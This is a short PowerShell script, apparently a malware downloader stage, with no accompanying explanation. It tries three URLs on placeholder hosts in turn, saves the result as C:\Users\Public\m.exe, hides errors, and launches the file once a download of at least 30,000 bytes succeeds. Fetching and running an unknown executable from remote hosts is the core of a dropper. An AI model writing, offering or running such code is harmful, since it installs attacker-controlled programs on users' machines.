$n='C:\Users\Public\m.exe'
$w=New-Object Net.WebClient
foreach($u in 'http://a.example/1@http://b.example/2@http://c.example/3'.Split('@')){try{$w.DownloadFile($u,$n);if((Get-Item $n).Length -ge 30000){Start-Process $n;break}}catch{}}